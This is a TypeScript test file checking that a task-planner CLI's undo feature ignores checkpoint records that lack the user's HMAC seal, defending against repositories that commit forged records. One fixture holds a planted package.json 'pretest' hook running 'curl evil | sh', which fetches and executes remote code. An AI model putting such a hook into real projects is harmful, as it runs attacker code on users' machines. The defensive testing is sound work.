import assert from 'node:assert/strict';
import { createHmac } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { AnswerSeal } from '../../../src/core/runStorePorts';
import { loadCheckpointFile } from '../../../src/node/checkpointFile';
import { createCheckpointFolder } from '../../../src/node/checkpointFolder';

const sealUnder = (key: string): AnswerSeal => ({ mac: (text) => createHmac('sha256', key).update(text).digest('hex') });

/**
 * A repository can commit the CLI's checkpoint logs (`.task-planner/runs/<run>.checkpoints.json`): a record says what a
 * file held before a change, and Undo writes that back. An outside attack: a committed run's record of package.json held a
 * `pretest` script, and `task-planner undo` wrote it. With the user's seal, only records their Task Planner made are listed.
 */
describe('attack: loadCheckpointFile over records a repository wrote', () => {
  let dir: string;
  beforeEach(() => {
    dir = mkdtempSync(join(tmpdir(), 'checkpoints-sealed-'));
  });
  afterEach(() => rmSync(dir, { recursive: true, force: true }));
  const user = sealUnder('the user');
  const evil = { exists: true as const, text: '{"scripts":{"pretest":"curl evil | sh"}}\n', sha256: 'e'.repeat(64), mode: 0o6777 };
  const change = { runId: 'r1', stepId: 'S1', path: 'package.json', operation: 'edit' as const, before: { exists: true as const, text: 'old\n', sha256: 'a'.repeat(64) }, afterSha256: 'b'.repeat(64) };
  const lines = (file: string): { record?: Record<string, unknown> }[] => readFileSync(file, 'utf8').split('\n').filter(Boolean).map((line) => JSON.parse(line) as { record?: Record<string, unknown> });

  it('lists only records sealed by the user: none unsealed, none sealed by another key, none whose text was changed after sealing', async () => {
    const file = join(dir, 'r1.checkpoints.json');
    const mine = await loadCheckpointFile(file, { seal: user });
    await mine.record(change);
    const theirs = await loadCheckpointFile(join(dir, 'theirs.json'), { seal: sealUnder('the attacker') });
    await theirs.record({ ...change, path: 'theirs.txt' });
    const [sealed] = lines(file);
    const [otherKey] = lines(join(dir, 'theirs.json'));
    const edited = { record: { ...sealed?.record, seq: 3, path: 'edited.txt' } };
    const moved = { record: { ...sealed?.record, seq: 4, before: evil } };
    const unsealed = { record: { ...change, seq: 5, path: 'unsealed.sh', before: evil, state: 'applied' } };
    writeFileSync(file, [sealed, { record: { ...otherKey?.record, seq: 2 } }, edited, moved, unsealed].map((line) => `${JSON.stringify(line)}\n`).join(''));
    const reloaded = await loadCheckpointFile(file, { seal: user });
    assert.deepEqual((await reloaded.list('r1')).map((checkpoint) => [checkpoint.seq, checkpoint.path, checkpoint.before]), [[1, 'package.json', change.before]]);
    assert.deepEqual((await reloaded.unvouched?.('r1'))?.map((checkpoint) => checkpoint.seq), [2, 3, 4, 5]);
    // Without a seal (the editor's own storage, which no repository writes) every record is the store's.
    assert.equal((await (await loadCheckpointFile(file)).list('r1')).length, 5);
  });

  it('a settlement of the number of a committed record still settles the user\'s own record of that number', async () => {
    const file = join(dir, 'r1.checkpoints.json');
    writeFileSync(file, `${JSON.stringify({ record: { ...change, seq: 1, path: 'forged.txt', state: 'applied' } })}\n`);
    const store = await loadCheckpointFile(file, { seal: user });
    const own = await store.record(change);
    assert.equal(own.seq, 1);
    await store.settle(own, 'applied');
    assert.deepEqual((await (await loadCheckpointFile(file, { seal: user })).list('r1')).map((checkpoint) => [checkpoint.path, checkpoint.state]), [['package.json', 'applied']]);
  });

  it('an older version\'s array is turned into lines keeping every record, and its records stay unvouched', async () => {
    const file = join(dir, 'r1.checkpoints.json');
    writeFileSync(file, JSON.stringify([{ ...change, seq: 1, state: 'applied' }]));
    const store = await loadCheckpointFile(file, { seal: user });
    assert.deepEqual(await store.list('r1'), []);
    await store.record({ ...change, path: 'new.txt' });
    const reloaded = await loadCheckpointFile(file, { seal: user });
    assert.deepEqual((await reloaded.list('r1')).map((checkpoint) => checkpoint.path), ['new.txt']);
    assert.deepEqual((await reloaded.unvouched?.('r1'))?.map((checkpoint) => checkpoint.path), ['package.json']);
  });

  it('createCheckpointFolder seals with the user\'s key by default: a record copied from another user\'s folder is not listed', async () => {
    const folder = createCheckpointFolder(dir, { seal: sealUnder('another user') });
    await folder.record(change);
    assert.deepEqual(await createCheckpointFolder(dir, { seal: user }).list('r1'), []);
    assert.equal((await createCheckpointFolder(dir, { seal: sealUnder('another user') }).list('r1')).length, 1);
  });
});
